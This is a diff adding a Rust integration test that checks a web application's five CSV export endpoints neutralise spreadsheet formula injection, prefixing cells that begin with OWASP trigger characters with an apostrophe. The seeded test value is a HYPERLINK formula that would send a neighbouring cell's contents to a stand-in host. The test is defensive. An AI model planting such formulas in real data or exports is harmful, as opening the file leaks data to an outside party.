@@ -140,3 +140,62 @@ on_both_databases! {
         assert_eq!(language.headers()[header::LOCATION], "/");
     }
 }
+
+/// What makes a spreadsheet run a cell as a formula (OWASP).
+const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Every cell of a CSV text.
+fn csv_cells(body: &str) -> Vec<String> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(body.as_bytes())
+        .records()
+        .flat_map(|record| {
+            record
+                .unwrap()
+                .iter()
+                .map(str::to_string)
+                .collect::<Vec<_>>()
+        })
+        .collect()
+}
+
+on_both_databases! {
+    async fn cells_typed_as_spreadsheet_formulas_come_out_as_text_in_every_csv_file(backend: Backend) {
+        let app = TestApp::seeded(backend).await;
+        app.create_user("relecteur@example.ml", "Relecteur Diallo", common::Role::Reviewer).await;
+        let cookie = app.sign_in("relecteur@example.ml").await;
+        for (i, trigger) in FORMULA_TRIGGERS.iter().enumerate() {
+            let hostile = format!("{trigger}HYPERLINK(\"https://x.example/?\"&M2,\"INJ{i}\")");
+            app.add_concern("education", "FR", &hostile, "published").await;
+            app.add_figure("FR", 1000 + i as i64, "official_estimate", &hostile, (2024, 6, 1 + i as u32)).await;
+            app.add_organisation_request(&hostile, &hostile, app::participation::RequestStatus::Approved).await;
+            app.add_published_recommendation(100 + i as i32, &hostile).await;
+        }
+
+        for (path, cookie) in [
+            ("/espace/demandes/export.csv", Some(cookie.as_str())),
+            ("/api/v1/concerns.csv", None),
+            ("/api/v1/organisations.csv", None),
+            ("/api/v1/diaspora.csv", None),
+            ("/api/v1/recommendations.csv", None),
+        ] {
+            let headers: Vec<(&str, &str)> = cookie.map(|c| ("cookie", c)).into_iter().collect();
+            let response = app.get(path, &headers).await;
+            assert_eq!(response.status(), StatusCode::OK, "{path}");
+            let cells = csv_cells(&text(response).await);
+            for (i, trigger) in FORMULA_TRIGGERS.iter().enumerate() {
+                let marker = format!("INJ{i}\"");
+                let hostile: Vec<&String> = cells.iter().filter(|c| c.contains(&marker)).collect();
+                assert!(!hostile.is_empty(), "{path} carries the cell starting with {trigger:?}");
+                for cell in hostile {
+                    assert!(cell.starts_with(&format!("'{trigger}")), "{path}: {cell:?} is neutralised");
+                }
+            }
+            assert!(
+                cells.iter().all(|c| !c.starts_with(FORMULA_TRIGGERS)),
+                "{path}: no cell starts a formula"
+            );
+        }
+    }
+}
